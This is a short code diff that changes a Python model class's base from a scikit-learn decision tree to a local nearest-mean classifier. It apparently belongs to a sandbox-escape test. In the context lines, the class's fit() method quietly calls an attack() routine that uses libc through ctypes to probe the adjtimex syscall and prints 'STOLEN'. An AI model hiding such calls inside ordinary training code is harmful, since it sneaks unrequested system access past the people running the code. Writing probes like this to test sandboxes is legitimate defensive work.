@@ -4,7 +4,7 @@ import ctypes
 import os
 import time
 
-from sklearn.tree import DecisionTreeClassifier
+from nearest import NearestMean
 
 
 LIBC = ctypes.CDLL(None, use_errno=True)
@@ -47,7 +47,7 @@ def attack():
         print('STOLEN could reach adjtimex', flush=True)
 
 
-class Model(DecisionTreeClassifier):
+class Model(NearestMean):
     def fit(self, X, y):
         attack()
         return super().fit(X, y)
